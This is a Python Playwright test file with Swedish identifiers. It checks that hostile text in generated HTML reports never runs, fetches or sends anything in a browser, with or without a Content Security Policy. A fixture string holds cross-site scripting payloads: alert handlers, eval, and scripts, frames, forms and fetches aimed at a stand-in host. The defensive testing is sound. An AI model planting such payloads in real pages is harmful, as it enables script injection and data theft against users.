"""No text becomes part of a page: every known technique in every free text, in a real browser, with and without the policy."""

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route

from kvalitet_cli.core.text import printable
from kvalitet_cli.output.documents import html
from kvalitet_cli.output.templates import Templates
from tests.tillit import tabell
from tests.tillit.mall.planterat import plantera, rapporter
from tests.tillit.mall.strangar import XSS

ADRESS = re.compile(r"#|(?:\.\./)*[\w./-]+\.html(?:#|$)|data:image/(?:svg\+xml|png|jpeg);base64,")
BYGGE = """() => {
  const led = new Set(), adresser = new Set();
  for (const e of document.querySelectorAll('*')) {
    const namn = e.getAttributeNames().sort().join(' ');
    led.add(`${e.parentElement ? e.parentElement.localName : ''}>${e.localName}[${namn}] ${e.namespaceURI}`);
    for (const a of ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background'])
      if (e.hasAttribute(a)) adresser.add(e.getAttribute(a));
  }
  return {led: [...led], adresser: [...adresser], text: document.documentElement.textContent};
}"""
RETA = """() => {
  for (const e of document.querySelectorAll('*'))
    for (const slag of ['mouseover', 'mousemove', 'pointerenter', 'focus', 'focusin', 'toggle', 'error', 'load', 'wheel'])
      e.dispatchEvent(new Event(slag, {bubbles: true}));
  for (const e of document.querySelectorAll('summary, button, input, select, label')) e.click();
}"""


class Sidan:
    """One window that writes down all that a page does beside being shown."""

    def __init__(self, context: BrowserContext) -> None:
        self.hande: list[str] = []
        self.page: Page = context.new_page()
        self.page.on("dialog", self.dialog)
        self.page.on("console", lambda message: self.hande.append(f"konsolen: {message.text}"))
        self.page.on("pageerror", lambda error: self.hande.append(f"fel: {error}"))
        self.page.on("popup", lambda popup: self.hande.append(f"fönster: {popup.url}"))
        self.page.on("request", self.request)

    def dialog(self, dialog: Any) -> None:
        self.hande.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def request(self, request: Any) -> None:
        if request.url.partition("#")[0] != self.vantad and not request.url.startswith("data:image/"):
            self.hande.append(f"hämtar: {request.url}")

    def oppna(self, path: Path, *, reta: bool = True) -> dict[str, Any]:
        """The page's build: its elements with the names of their attributes, its addresses and its text."""
        self.vantad = path.as_uri()
        self.page.goto(self.vantad)
        bygge: dict[str, Any] = self.page.evaluate(BYGGE)
        if reta:
            self.page.evaluate(RETA)
            sok = self.page.locator("#sokord")
            if sok.count():
                for text in XSS[:: tabell.size(15, 1)]:
                    sok.fill(text)
            assert self.page.url.partition("#")[0] == self.vantad, path
            efter = self.page.evaluate(BYGGE)
            if set(efter["adresser"]) != set(bygge["adresser"]):
                self.hande.append("nya adresser efter klick och sökning")
        return bygge


@pytest.fixture
def fonster(browser: Browser) -> Iterator[Callable[[bool], Sidan]]:
    contexts = []

    def nytt(utan_policy: bool) -> Sidan:
        contexts.append(browser.new_context(bypass_csp=utan_policy))
        return Sidan(contexts[-1])

    yield nytt
    for context in contexts:
        context.close()


def led(bygge: dict[str, Any]) -> set[str]:
    """What a page is built of: elements in elements with their attributes, but for those that the words decide."""
    return {
        re.sub(r"\b(?:hidden|open|id|class|colspan|rowspan|tabindex) ?", "", each) for each in bygge["led"]
    }


def som_text(text: str) -> str:
    return re.sub(r"\s+", " ", printable(text)).strip()


@pytest.mark.tillit
@pytest.mark.langsam
def test_no_text_becomes_part_of_a_page(tmp_path: Path, fonster: Callable[[bool], Sidan]) -> None:
    plantera(tmp_path / "snall", lambda nr, _: f"ord{nr}")
    snall = fonster(False)
    kanda = set().union(
        *(led(snall.oppna(sida, reta=False)) for sida in rapporter(tmp_path / "snall", "html"))
    )
    assert snall.hande == []

    def planta(omgang: int) -> Callable[[int, str], str]:
        if omgang == 0:
            return lambda nr, _: f"ord{nr} " + " ¤ ".join(XSS)
        return lambda nr, _: XSS[(nr + 37 * omgang) % len(XSS)]

    fel: list[str] = []
    provade, sedda = 0, set()
    for omgang in range(tabell.size(2, 6)):
        yta = tmp_path / f"{omgang}"
        antal = plantera(yta, planta(omgang))
        provade += antal * (len(XSS) if omgang == 0 else 1)
        sidan = fonster(omgang % 2 == 0)  # without the policy, then with it
        for sida in rapporter(yta, "html"):
            bygge = sidan.oppna(sida)
            fel += [f"{sida.name}: {ny}" for ny in led(bygge) - kanda]
            fel += [f"{sida.name}: {mal}" for mal in bygge["adresser"] if not ADRESS.match(mal)]
            fel += [f"{sida.name}: {hande}" for hande in sidan.hande]
            sidan.hande.clear()
            if omgang == 0:
                text = som_text(bygge["text"])
                sedda |= {each for each in XSS if som_text(each) in text}
    print("\n".join(sorted(set(fel))[:40]))
    assert set(XSS) - sedda == set()  # each is there to be read, as the text it is
    tabell.write(
        tabell.Rad(
            "Fientliga indata",
            "Text i filerna körs aldrig på en sida",
            provade,
            "texter på platser",
            len(set(fel)),
        )
    )


MALLAR = {
    "egen policy som släpper in allt": '<!doctype html>\n<html lang="sv">\n<head>\n<meta charset="utf-8">\n'
    '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">\n</head><body>{}</body></html>',
    "huvud i en kommentar": "<!doctype html><!-- <html><head> --><html><head></head><body>{}</body></html>",
    "huvud i ett attribut": "<!doctype html><html x='<head>'><head></head><body>{}</body></html>",
    "huvud i ett attribut med större än": "<!doctype html><html x='>'><head></head><body>{}</body></html>",
    "inget huvud": "<!doctype html><body>{}</body>",
    "ingen sida": "{}",
    "kommentar först": "<!-- a --><html><head></head><body>{}</body></html>",
    "huvud i ett skript": "<script>'<!doctype html><html><head>'</script>{}",
}
SKADA = (
    "<img src=https://skada.exempel.se/a.png><link rel=stylesheet href=https://skada.exempel.se/a.css>"
    "<script src=https://skada.exempel.se/a.js></script><iframe src=https://skada.exempel.se></iframe>"
    "<img src=x onerror=alert(1)><body onload=alert(1)><svg onload=alert(1)></svg>"
    "<p style='background:url(https://skada.exempel.se/b.png)'>a</p>"
    "<style>p{background:url(https://skada.exempel.se/c.png)} @import 'https://skada.exempel.se/d.css';</style>"
    "<base href=https://skada.exempel.se/><form action=https://skada.exempel.se><button id=k>k</button></form>"
    "<object data=https://skada.exempel.se></object><embed src=https://skada.exempel.se>"
    "<video src=https://skada.exempel.se poster=https://skada.exempel.se/p.png></video>"
    "<script>fetch('https://skada.exempel.se').catch(() => 0); new Image().src = 'https://skada.exempel.se/e.png';"
    "eval('alert(1)');</script>"
)


@pytest.mark.langsam
@pytest.mark.parametrize("namn", MALLAR)
def test_no_template_does_without_the_policy(tmp_path: Path, browser: Browser, namn: str) -> None:
    """A template may hold a script of its own; neither that nor anything else fetches or sends."""
    (tmp_path / "egen.html.jinja").write_text(MALLAR[namn].format(SKADA), "utf-8")
    sida = tmp_path / "egen.html"
    sida.write_text(html.render(Templates(tmp_path), "egen", None), "utf-8")
    context = browser.new_context()
    hamtat: list[str] = []
    dialoger: list[str] = []

    def stopp(route: Route) -> None:
        hamtat.append(route.request.url)
        route.abort()

    def dialog(dialog: Dialog) -> None:
        dialoger.append(dialog.message)
        dialog.dismiss()

    context.route(re.compile("^https?:"), stopp)
    page = context.new_page()
    page.on("dialog", dialog)
    page.goto(sida.as_uri(), wait_until="commit")
    page.wait_for_timeout(300)
    page.evaluate("document.getElementById('k').click()")
    page.wait_for_timeout(200)
    assert hamtat == []
    assert dialoger == []
    assert page.url.partition("?")[0] == sida.as_uri()
    context.close()
